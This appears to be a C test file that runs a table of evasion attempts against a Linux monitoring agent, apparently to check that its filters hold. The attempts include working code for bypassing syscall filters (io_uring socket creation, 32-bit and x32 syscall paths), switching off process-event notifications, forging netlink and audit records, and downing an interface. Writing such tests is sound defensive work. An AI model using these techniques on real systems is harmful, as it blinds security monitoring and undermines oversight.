/* SPDX-FileCopyrightText: cellos-telemetry contributors */
/* SPDX-License-Identifier: LGPL-2.1-or-later */

/*
 * Frames in the agent's name, and messages that would turn its probes off. One thread.
 */
#include "attack.h"

#include <fcntl.h>
#include <linux/audit.h>
#include <linux/cn_proc.h>
#include <linux/connector.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <linux/io_uring.h>
#include <linux/netlink.h>
#include <linux/vm_sockets.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

/* ---- AF_VSOCK ---------------------------------------------------------------------------------
 */

static int do_vsock(void)
{
	return outcome(socket(AF_VSOCK, SOCK_STREAM | SOCK_CLOEXEC, 0));
}

static int do_vsock_high_bit(void)
{
	return outcome(syscall(SYS_socket, HIGH_BIT | AF_VSOCK, (long)SOCK_STREAM, 0L));
}

static int do_vsock_pair(void)
{
	int ends[2], result = outcome(syscall(SYS_socketpair, HIGH_BIT | AF_VSOCK,
					      (long)SOCK_STREAM, 0L, ends));

	return result == EOPNOTSUPP ? WORKED : result; /* so far no pairs; the socket was made */
}

/* A whole connection, with bytes. */
static int do_vsock_frame(void)
{
	const struct sockaddr_vm host = {
		.svm_family = AF_VSOCK, .svm_cid = VMADDR_CID_LOCAL, .svm_port = ATTACK_VSOCK_PORT};
	int fd = socket(AF_VSOCK, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (fd < 0)
		return errno;
	if (connect(fd, (const struct sockaddr *)&host, sizeof(host)) < 0)
		return errno == ENODEV ? ABSENT : errno;
	(void)send(fd, "\1\0\0\0\xa0", 5, MSG_NOSIGNAL); /* it may have been shown the door */
	return WORKED;
}

/* The socket is made by the ring, which no filter looks into. */
static int do_ring_socket(void)
{
	struct io_uring_params parameters = {0};
	int ring = (int)syscall(SYS_io_uring_setup, 1L, &parameters);
	struct io_uring_sqe *entry;
	uint32_t *tail;
	char *queue, *done;
	struct io_uring_cqe *completion;

	if (ring < 0)
		return errno;
	queue = mmap(NULL, parameters.sq_off.array + 4096, PROT_READ | PROT_WRITE, MAP_SHARED, ring,
		     IORING_OFF_SQ_RING);
	entry = mmap(NULL, sizeof(*entry), PROT_READ | PROT_WRITE, MAP_SHARED, ring,
		     IORING_OFF_SQES);
	done = mmap(NULL, parameters.cq_off.cqes + 64, PROT_READ | PROT_WRITE, MAP_SHARED, ring,
		    IORING_OFF_CQ_RING);
	if (queue == MAP_FAILED || (void *)entry == MAP_FAILED || done == MAP_FAILED)
		return errno;
	memset(entry, 0, sizeof(*entry));
	entry->opcode = 45; /* IORING_OP_SOCKET */
	entry->fd = AF_VSOCK;
	entry->off = SOCK_STREAM;
	((uint32_t *)(void *)(queue + parameters.sq_off.array))[0] = 0;
	tail = (uint32_t *)(void *)(queue + parameters.sq_off.tail);
	__atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE); /* before the kernel looks */
	if (syscall(SYS_io_uring_enter, ring, 1L, 1L, (long)IORING_ENTER_GETEVENTS, NULL, 0L) < 0)
		return errno;
	completion = (struct io_uring_cqe *)(void *)(done + parameters.cq_off.cqes);
	return completion->res < 0 ? -completion->res : WORKED;
}

static int do_unix_channel(void)
{
	const struct sockaddr_un path = {.sun_family = AF_UNIX, .sun_path = "/agent.sock"};
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	return fd < 0 ? errno : outcome(connect(fd, (const struct sockaddr *)&path, sizeof(path)));
}

/* ---- other doors into the same calls ------------------------------------------------------------
 */

/* As a 32-bit program does. The kernel's errno is negative in the result. */
static long call_32(long number, long first, long second, long third)
{
	long result;

	__asm__ volatile("int $0x80"
			 : "=a"(result)
			 : "a"(number), "b"(first), "c"(second), "d"(third)
			 : "memory", "r8", "r9", "r10", "r11");
	return (int)result;
}

static int outcome_32(long result)
{
	return result < 0 ? (int)-result : WORKED;
}

static int do_socket_32(void)
{
	return outcome_32(call_32(359 /* socket */, AF_VSOCK, SOCK_STREAM, 0));
}

static int do_socketcall_32(void)
{
	uint32_t *arguments = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
				   MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);

	if (arguments == MAP_FAILED)
		return errno;
	arguments[0] = AF_VSOCK;
	arguments[1] = SOCK_STREAM;
	arguments[2] = 0;
	return outcome_32(
		call_32(102 /* socketcall */, 1 /* socket */, (long)(uintptr_t)arguments, 0));
}

static int do_kill_32(void)
{
	return outcome_32(call_32(37 /* kill */, agent, 18 /* SIGCONT */, 0));
}

#define X32 0x40000000

static int do_socket_x32(void)
{
	int result = outcome(syscall(X32 | SYS_socket, (long)AF_VSOCK, (long)SOCK_STREAM, 0L));

	return result == ENOSYS ? ABSENT : result;
}

static int do_kill_x32(void)
{
	int result = outcome(syscall(X32 | SYS_kill, (long)agent, 18L));

	return result == ENOSYS ? ABSENT : result;
}

/* ---- the probes' messages ---------------------------------------------------------------------
 */

struct connector_message {
	struct nlmsghdr header;
	char body[sizeof(struct cn_msg) + sizeof(enum proc_cn_mcast_op)];
};

static struct connector_message build_connector(unsigned operation)
{
	struct connector_message message = {.header.nlmsg_type = NLMSG_DONE};
	const struct cn_msg inner = {.id = {CN_IDX_PROC, CN_VAL_PROC}, .len = sizeof(operation)};

	message.header.nlmsg_len = sizeof(message);
	memcpy(message.body, &inner, sizeof(inner));
	memcpy(message.body + sizeof(inner), &operation, sizeof(operation));
	return message;
}

/* Nobody wants to hear of processes any more. */
static int do_ignore(void)
{
	struct sockaddr_nl own = {.nl_family = AF_NETLINK, .nl_groups = CN_IDX_PROC};
	struct connector_message message = build_connector(PROC_CN_MCAST_IGNORE);
	int fd = socket(AF_NETLINK, SOCK_DGRAM | SOCK_CLOEXEC, NETLINK_CONNECTOR);

	if (fd < 0 || bind(fd, (struct sockaddr *)&own, sizeof(own)) < 0)
		return errno;
	if (send(fd, &message, sizeof(message), 0) < 0)
		return errno;
	message = build_connector(PROC_CN_MCAST_LISTEN);
	return outcome(send(fd, &message, sizeof(message), 0));
}

/* A report of a process that never was, to the agent's own port. */
static int do_forge_netlink(void)
{
	struct connector_message message = build_connector(0);
	int fd = socket(AF_NETLINK, SOCK_DGRAM | SOCK_CLOEXEC, NETLINK_CONNECTOR);
	struct sockaddr_nl to = {.nl_family = AF_NETLINK, .nl_pid = 0};
	FILE *ports = fopen("/proc/net/netlink", "re");
	char line[256];

	while (ports != NULL && fgets(line, sizeof(line), ports) != NULL) {
		unsigned protocol, port;

		if (sscanf(line, "%*x %u %u", &protocol, &port) == 2 &&
		    protocol == NETLINK_CONNECTOR && port != 0)
			to.nl_pid = port;
	}
	if (ports != NULL)
		fclose(ports);
	if (to.nl_pid == 0)
		to.nl_pid = (unsigned)agent; /* the first socket of a process has its number */
	if (fd < 0)
		return errno;
	if (sendto(fd, &message, sizeof(message), 0, (struct sockaddr *)&to, sizeof(to)) < 0 &&
	    errno != ECONNREFUSED) /* let through, only nobody listened */
		return errno;
	return WORKED;
}

static int ask_audit(unsigned type, const void *body, size_t length)
{
	struct {
		struct nlmsghdr header;
		char body[128];
	} message = {0}, reply = {0};
	struct sockaddr_nl kernel = {.nl_family = AF_NETLINK};
	int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_AUDIT), error;

	message.header.nlmsg_len = (uint32_t)(sizeof(message.header) + length);
	message.header.nlmsg_type = (uint16_t)type;
	message.header.nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK;
	memcpy(message.body, body, length);
	if (fd < 0 || sendto(fd, &message, message.header.nlmsg_len, 0, (struct sockaddr *)&kernel,
			     sizeof(kernel)) < 0)
		return errno;
	if (recv(fd, &reply, sizeof(reply), 0) < (ssize_t)sizeof(reply.header))
		return errno != 0 ? errno : EPROTO;
	memcpy(&error, reply.body, sizeof(error));
	return reply.header.nlmsg_type == NLMSG_ERROR ? -error : WORKED;
}

static int do_audit_set(void)
{
	struct audit_status off = {.mask = AUDIT_STATUS_RATE_LIMIT, .rate_limit = 0};

	return ask_audit(AUDIT_SET, &off, sizeof(off));
}

static int do_audit_user(void)
{
	return ask_audit(AUDIT_FIRST_USER_MSG, "forged", 7);
}

/* ---- the network under it ----------------------------------------------------------------------
 */

static int do_packet(void)
{
	return outcome(socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0));
}

static int do_raw(void)
{
	return outcome(socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, 1 /* ICMP */));
}

static int do_interface_down(void)
{
	struct ifreq request = {.ifr_name = "lo", .ifr_flags = 0};
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0), result;

	result = outcome(ioctl(fd, SIOCSIFFLAGS, &request));
	request.ifr_flags = IFF_UP | IFF_RUNNING;
	(void)ioctl(fd, SIOCSIFFLAGS, &request);
	return result;
}

const struct attack attacks_channel[] = {
	{"vsock", "S", "S", do_vsock, "socket(AF_VSOCK)"},
	{"vsock-high", "S", "S", do_vsock_high_bit, "socket(AF_VSOCK) with bit 32 set"},
	{"vsock-pair", "S", "S", do_vsock_pair, "socketpair(AF_VSOCK) with bit 32 set"},
	{"vsock-frame", "S", "S", do_vsock_frame, "a forged frame over AF_VSOCK"},
	{"ring-socket", "S", "S", do_ring_socket, "socket(AF_VSOCK) by io_uring"},
	{"socket-32", "S", "S", do_socket_32, "32-bit socket(AF_VSOCK)"},
	{"socketcall-32", "S", "S", do_socketcall_32, "32-bit socketcall(AF_VSOCK)"},
	{"kill-32", "N S", "S", do_kill_32, "32-bit kill"},
	{"socket-x32", "never", "never", do_socket_x32, "x32 socket(AF_VSOCK)"},
	{"kill-x32", "never", "never", do_kill_x32, "x32 kill"},
	{"unix-channel", "M", "M", do_unix_channel, "connect to the agent's host by path"},
	{"ignore", "C", "C", do_ignore, "PROC_CN_MCAST_IGNORE"},
	{"forge-netlink", "C", "C", do_forge_netlink, "a forged connector message"},
	{"audit-set", "N C", "never", do_audit_set, "audit: change its settings"},
	{"audit-user", "C", "C", do_audit_user, "audit: a forged record"},
	{"packet", "C", "C", do_packet, "AF_PACKET"},
	{"raw", "C", "C", do_raw, "raw sockets"},
	{"interface", "C", "C", do_interface_down, "an interface down"},
	{0},
};
